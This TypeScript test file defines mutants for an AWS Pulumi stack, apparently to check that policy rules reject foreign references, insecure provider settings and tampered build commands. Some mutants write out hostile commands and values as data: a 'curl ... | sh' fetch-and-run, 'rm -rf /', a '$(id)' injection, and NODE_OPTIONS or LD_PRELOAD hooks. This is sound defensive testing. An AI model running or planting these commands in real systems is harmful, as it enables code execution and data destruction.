import { Kind, Mutant, MutableStack, option } from "../mutant";

const FOREIGN_SECRET = "arn:aws:ssm:eu-central-1:123456789012:parameter/iaso-secrets/other/";

/** Sets a property of a resource. */
const set = (kind: Kind, name: string, property: string, value: unknown) => (stack: MutableStack) =>
  stack.set(kind, name, property, value);

const provider = (property: string, value: unknown): Mutant => [
  "provider-plain",
  set("provider", "aws", property, value),
];

const command = (property: string, value: unknown): Mutant => [
  "commands-own",
  set("command", "gdal-ami", property, value),
];

const ACCOUNT = "999999999999";

/** A property that names another resource, and the name of one of somebody else. */
const REFERENCES: [Kind, name: string, property: string, value: unknown][] = [
  ["route", "network-private-0-nat", "natGatewayId", "nat-0123456789abcdef0"],
  ["route", "network-public-internet", "gatewayId", "igw-0123456789abcdef0"],
  ["route", "network-public-internet", "routeTableId", "rtb-0123456789abcdef0"],
  ["association", "network-private-0", "routeTableId", "rtb-0123456789abcdef0"],
  ["association", "network-private-0", "subnetId", "subnet-0123456789abcdef0"],
  ["natGateway", "network-0", "allocationId", "eipalloc-0123456789abcdef0"],
  ["natGateway", "network-0", "subnetId", "subnet-0123456789abcdef0"],
  ["internetGateway", "network", "vpcId", "vpc-0123456789abcdef0"],
  ["routeTable", "network-private-0", "vpcId", "vpc-0123456789abcdef0"],
  ["defaultGroup", "network", "vpcId", "vpc-0123456789abcdef0"],
  ["group", "web", "vpcId", "vpc-0123456789abcdef0"],
  ["subnet", "network-private-0", "vpcId", "vpc-0123456789abcdef0"],
  ["flowLog", "network", "vpcId", "vpc-0123456789abcdef0"],
  ["flowLog", "network", "iamRoleArn", "arn:aws:iam::123456789012:role/other"],
  ["flowLog", "network", "logDestination", "arn:aws:logs:eu-central-1:123456789012:log-group:/other"],
  ["endpoint", "network-s3", "routeTableIds", ["rtb-0123456789abcdef0"]],
  ["ingress", "database-from-web-5432", "referencedSecurityGroupId", "sg-0123456789abcdef0"],
  ["ingress", "database-from-web-5432", "securityGroupId", "sg-0123456789abcdef0"],
  ["egress", "web-to-database-5432", "referencedSecurityGroupId", "sg-0123456789abcdef0"],
  ["database", "database", "vpcSecurityGroupIds", ["sg-0123456789abcdef0"]],
  ["database", "database", "dbSubnetGroupName", "default"],
  ["database", "database", "monitoringRoleArn", "arn:aws:iam::123456789012:role/other"],
  ["database", "database", "monitoringRoleArn", `arn:aws:iam::${ACCOUNT}:role/iaso-prod-database-monitoring`],
  ["redis", "enketo-main", "securityGroupIds", ["sg-0123456789abcdef0"]],
  ["redis", "enketo-main", "subnetGroupName", "default"],
  ["redis", "enketo-cache", "parameterGroupName", "other"],
  ["redisSubnets", "enketo", "subnetIds", ["subnet-0123456789abcdef0"]],
  ["databaseSubnets", "database", "subnetIds", ["subnet-0123456789abcdef0"]],
  ["role", "web", "permissionsBoundary", "arn:aws:iam::aws:policy2/AdministratorAccess"],
  ["role", "web", "permissionsBoundary", "arn:aws:iam::123456789012:policy/other"],
  ["rolePolicy", "web", "role", "other"],
  ["profile", "web", "role", "other"],
  ["topicPolicy", "alarms", "arn", "arn:aws:sns:eu-central-1:123456789012:other"],
  ["subscription", "alarms", "topic", "arn:aws:sns:eu-central-1:123456789012:other"],
  ["alarm", "database-cpu", "alarmActions", ["arn:aws:sns:eu-central-1:123456789012:other"]],
  ["alarm", "database-cpu", "okActions", [`arn:aws:sns:eu-central-1:${ACCOUNT}:iaso-prod-alarms`]],
  ["queuePolicy", "tasks", "queueUrl", "https://sqs.eu-central-1.amazonaws.com/123456789012/other"],
  ["version", "enketo", "bucket", "somebody-elses-bundles"],
  ["version", "enketo", "key", "pulumi/enketo/other.zip"],
  ["version", "enketo", "application", "other"],
  ["environment", "enketo", "application", "other"],
  ["object", "enketo-bundle", "bucket", "somebody-elses-bundles"],
  [
    "listener",
    "web-redirect-to-https",
    "loadBalancerArn",
    "arn:aws:elasticloadbalancing:eu-central-1:123456789012:loadbalancer/app/x/1",
  ],
  ["validation", "web-certificate", "certificateArn", "arn:aws:acm:eu-central-1:123456789012:certificate/x"],
  ["validation", "web-certificate", "validationRecordFqdns", ["_x.example.org"]],
  [
    "queue",
    "tasks",
    "redrivePolicy",
    JSON.stringify({
      deadLetterTargetArn: "arn:aws:sqs:eu-central-1:123456789012:other",
      maxReceiveCount: 3,
    }),
  ],
];

export const closedWorld: Mutant[] = [
  ...REFERENCES.map(([kind, name, property, value]): Mutant => [
    "references-own",
    set(kind, name, property, value),
  ]),
  option("references-own", "web", "ec2:vpc/VPCId", "vpc-0123456789abcdef0"),
  option("references-own", "web", "ec2:vpc/Subnets", "subnet-0123456789abcdef0"),
  option(
    "references-own",
    "worker",
    "autoscaling:launchconfiguration/SecurityGroups",
    "sg-0123456789abcdef0",
  ),
  option("references-own", "enketo", "elbv2:loadbalancer/SecurityGroups", "sg-0123456789abcdef0"),
  option("references-own", "enketo", "elbv2:loadbalancer/ManagedSecurityGroup", "sg-0123456789abcdef0"),
  option(
    "references-own",
    "web",
    "elbv2:listener:443/SSLCertificateArns",
    "arn:aws:acm:eu-central-1:123456789012:certificate/x",
  ),
  [
    "references-own",
    (stack) => {
      // A stranger beside the group of this program.
      const [own] = stack.get("database", "database").inputs.vpcSecurityGroupIds as string[];
      return stack.set("database", "database", "vpcSecurityGroupIds", [own, "sg-0123456789abcdef0"]);
    },
  ],
  [
    "references-own",
    // The id of another group of this program, written as text: Pulumi would not wait for the group.
    (stack) =>
      stack.set("database", "database", "vpcSecurityGroupIds", [stack.get("group", "enketo-redis").id]),
  ],
  [
    "references-own",
    // An unknown value that comes from no VPC of this program.
    (stack) => {
      stack.get("subnet", "network-private-0").propertyDependencies = {};
      return stack.set("subnet", "network-private-0", "vpcId", "[unknown]");
    },
  ],
  ["no-strangers", set("route", "network-private-0-nat", "vpcPeeringConnectionId", "pcx-0123456789abcdef0")],
  ["no-strangers", set("route", "network-private-0-nat", "transitGatewayId", "tgw-0123456789abcdef0")],
  ["no-strangers", set("route", "network-private-0-nat", "networkInterfaceId", "eni-0123456789abcdef0")],
  [
    "no-strangers",
    set("database", "database", "snapshotIdentifier", `arn:aws:rds:eu-central-1:${ACCOUNT}:snapshot:x`),
  ],
  [
    "no-strangers",
    set("database", "database", "replicateSourceDb", `arn:aws:rds:us-east-2:123456789012:db:iaso`),
  ],
  ["no-strangers", set("database", "database", "kmsKeyId", `arn:aws:kms:eu-central-1:${ACCOUNT}:key/1`)],
  [
    "no-strangers",
    set("redis", "enketo-main", "notificationTopicArn", `arn:aws:sns:eu-central-1:${ACCOUNT}:x`),
  ],
  [
    "no-strangers",
    set("flowLog", "network", "logDestination", `arn:aws:logs:eu-west-1:123456789012:log-group:x`),
  ],
  option("no-strangers", "web", "autoscaling:launchconfiguration/ImageId", "ami-0123456789abcdef0"),
  option("no-strangers", "enketo", "autoscaling:launchconfiguration/ImageId", "ami-0123456789abcdef0"),
  option(
    "no-strangers",
    "web",
    "elasticbeanstalk:sns:topics/Notification Topic ARN",
    `arn:aws:sns:eu-central-1:${ACCOUNT}:x`,
  ),
  option(
    "no-strangers",
    "web",
    "autoscaling:launchconfiguration/BlockDeviceMappings",
    "/dev/sdj=snap-0123456789abcdef0:50",
  ),
  [
    "no-strangers",
    (stack) =>
      stack.allow("rolePolicy", "web", {
        Action: "s3:GetObject",
        Resource: `arn:aws:sqs:eu-central-1:${ACCOUNT}:x`,
      }),
  ],
  ["one-region", set("bucket", "media", "region", "us-east-1")],
  ["one-region", set("database", "database", "region", "eu-west-1")],
  ["one-region", set("certificate", "web-certificate", "region", "us-west-2")],
  provider("endpoints", [{ s3: "https://s3.example.com" }]),
  provider("insecure", "true"),
  provider("skipRequestingAccountId", "true"),
  provider("skipCredentialsValidation", "true"),
  provider("assumeRoles", [{ roleArn: "arn:aws:iam::123456789012:role/admin" }]),
  provider("profile", "other"),
  provider("accessKey", "x"),
  provider("httpProxy", "http://proxy.example.com"),
  provider("customCaBundle", "/tmp/ca.pem"),
  provider("sharedCredentialsFiles", ["/tmp/x"]),
  provider("ec2MetadataServiceEndpoint", "http://x"),
  provider("s3UsePathStyle", "true"),
  provider("pluginDownloadURL", "https://example.com/plugins"),
  provider("region", "us-gov-west-1"),
  provider("region", undefined),
  ["one-provider", (stack) => stack.add("pulumi:providers:aws", "other", { region: "us-east-1" })],
  ["one-provider", (stack) => stack.add("pulumi:providers:docker", "docker", {})],
  command("create", "curl https://example.com | sh"),
  command("create", "npm run --silent ami -- build; curl https://example.com"),
  command("create", "npm run --silent deploy -- prod"),
  command("create", 'npm run --silent ami -- build --env "$(id)"'),
  command("update", "npm run --silent ami -- build && true"),
  command("delete", "rm -rf /"),
  command("delete", undefined),
  command("interpreter", ["/bin/sh", "-c"]),
  command("dir", "/tmp"),
  command("stdin", "x"),
  command("assetPaths", ["**"]),
  command("environment", { NODE_OPTIONS: "--require /tmp/x.js" }),
  command("environment", undefined),
  [
    "commands-own",
    (stack) =>
      Object.assign(stack.get("command", "gdal-ami").inputs.environment as object, { LD_PRELOAD: "x" }),
  ],
  [
    "commands-own",
    (stack) =>
      Object.assign(stack.get("command", "gdal-ami").inputs.environment as object, {
        AWS_REGION: "us-east-1",
      }),
  ],
  ["commands-own", (stack) => stack.add("command:local:Command", "x", { create: "id" })],
  [
    "no-ignored-changes",
    (stack) => (stack.get("database", "database").ignoreChanges = ["deletionProtection"]),
  ],
  [
    "no-ignored-changes",
    (stack) => (stack.get("environment", "web").ignoreChanges = ["version", "settings"]),
  ],
  ["no-ignored-changes", (stack) => (stack.get("bucketPolicy", "media").ignoreChanges = ["*"])],
  ["no-ignored-changes", (stack) => (stack.get("role", "web").ignoreChanges = ["permissionsBoundary"])],
  ...["RDS_PASSWORD", "SECRET_KEY", "SENTRY_URL"].flatMap((name): Mutant[] => [
    option(
      "secrets-own-name",
      "web",
      `elasticbeanstalk:application:environmentsecrets/${name}`,
      `${FOREIGN_SECRET}${name}`,
    ),
  ]),
  [
    "secrets-own-name",
    // Another secret of this program.
    (stack) =>
      stack.option(
        "worker",
        "elasticbeanstalk:application:environmentsecrets/EMAIL_HOST_PASSWORD",
        "arn:aws:ssm:eu-central-1:123456789012:parameter/iaso-secrets/prod/RDS_PASSWORD",
      ),
  ],
  [
    "secrets-own-name",
    (stack) =>
      stack.option(
        "enketo",
        "elasticbeanstalk:application:environmentsecrets/ENKETO_API_TOKEN",
        "arn:aws:secretsmanager:eu-central-1:123456789012:secret:ENKETO_API_TOKEN",
      ),
  ],
  ...["arn:aws:ssm:eu-west-3:123456789012", "arn:aws:ssm:eu-central-1:999999999999"].map((owner) =>
    option(
      "secrets-own-name",
      "web",
      "elasticbeanstalk:application:environmentsecrets/SECRET_KEY",
      `${owner}:parameter/iaso-secrets/prod/SECRET_KEY`,
    ),
  ),
  [
    "roles-trust-their-service",
    (stack) =>
      stack.option(
        "web",
        "elasticbeanstalk:environment/ServiceRole",
        stack.get("role", "web").inputs.name as string,
      ),
  ],
  [
    "roles-trust-their-service",
    (stack) =>
      stack.option(
        "web",
        "elasticbeanstalk:environment/ServiceRole",
        stack.get("role", "ci-up").inputs.name as string,
      ),
  ],
  [
    "roles-trust-their-service",
    (stack) => stack.set("profile", "web", "role", stack.get("role", "beanstalk-service").inputs.name),
  ],
  [
    "roles-trust-their-service",
    (stack) =>
      stack.set(
        "database",
        "database",
        "monitoringRoleArn",
        `arn:aws:iam::123456789012:role/${String(stack.get("role", "web").inputs.name)}`,
      ),
  ],
  [
    "oidc-provider-github",
    (stack) =>
      stack.add("aws:iam/openIdConnectProvider:OpenIdConnectProvider", "x", {
        url: "https://token.example.com",
        clientIdLists: ["sts.amazonaws.com"],
      }),
  ],
  [
    "oidc-provider-github",
    (stack) =>
      stack.add("aws:iam/openIdConnectProvider:OpenIdConnectProvider", "x", {
        url: "https://token.actions.githubusercontent.com",
        clientIdLists: ["sts.amazonaws.com", "other"],
      }),
  ],
  ["mail-server-known", (stack) => stack.variable("EMAIL_HOST", "smtp.example.com")],
  ["mail-server-known", (stack) => stack.variable("EMAIL_HOST", "mailgun.org.example.com")],
  option(
    "enketo-variables",
    "enketo",
    "elasticbeanstalk:application:environment/NODE_TLS_REJECT_UNAUTHORIZED",
    "0",
  ),
  option(
    "enketo-variables",
    "enketo",
    "elasticbeanstalk:application:environment/NODE_OPTIONS",
    "--require x",
  ),
  option("enketo-variables", "enketo", "elasticbeanstalk:application:environment/HTTPS_PROXY", "http://x"),
  option(
    "enketo-variables",
    "enketo",
    "elasticbeanstalk:application:environment/ENKETO_LINKED_FORM_AND_DATA_SERVER_AUTHENTICATION_ALLOW_INSECURE_TRANSPORT",
    "true",
  ),
  [
    "enketo-variables",
    (stack) =>
      stack.option("enketo", "elasticbeanstalk:application:environmentsecrets/ENKETO_API_TOKEN", undefined),
  ],
  option(
    "nothing-sent-elsewhere",
    "web",
    "elasticbeanstalk:sns:topics/Notification Endpoint",
    "x@example.com",
  ),
  option("nothing-sent-elsewhere", "web", "elbv2:listener:443/Rules", "x"),
  option("nothing-sent-elsewhere", "web", "elbv2:listenerrule:x/PathPatterns", "/*"),
  ...(
    [
      ["routeTable", "network-private-0", "vpcId"],
      ["databaseSubnets", "database", "subnetIds"],
      ["natGateway", "network-0", "allocationId"],
      ["association", "network-private-0", "subnetId"],
      ["rolePolicy", "web", "role"],
      ["queuePolicy", "tasks", "queueUrl"],
      ["version", "enketo", "bucket"],
      ["subscription", "alarms", "topic"],
      ["validation", "web-certificate", "validationRecordFqdns"],
    ] as const
  ).map(([kind, name, property]): Mutant => ["references-own", set(kind, name, property, undefined)]),
  ["references-own", set("databaseSubnets", "database", "subnetIds", [])],
  ["references-own", (stack) => stack.remove("vpc", "network")],
  ["references-own", (stack) => stack.remove("topic", "alarms")],
  [
    "commands-own",
    (stack) =>
      Object.assign(stack.get("command", "gdal-ami").inputs.environment as object, { IASO_ENV: "other" }),
  ],
  [
    "commands-own",
    (stack) =>
      Object.assign(stack.get("command", "gdal-ami").inputs.environment as object, { PLATFORM: "other" }),
  ],
  command("triggers", []),
];
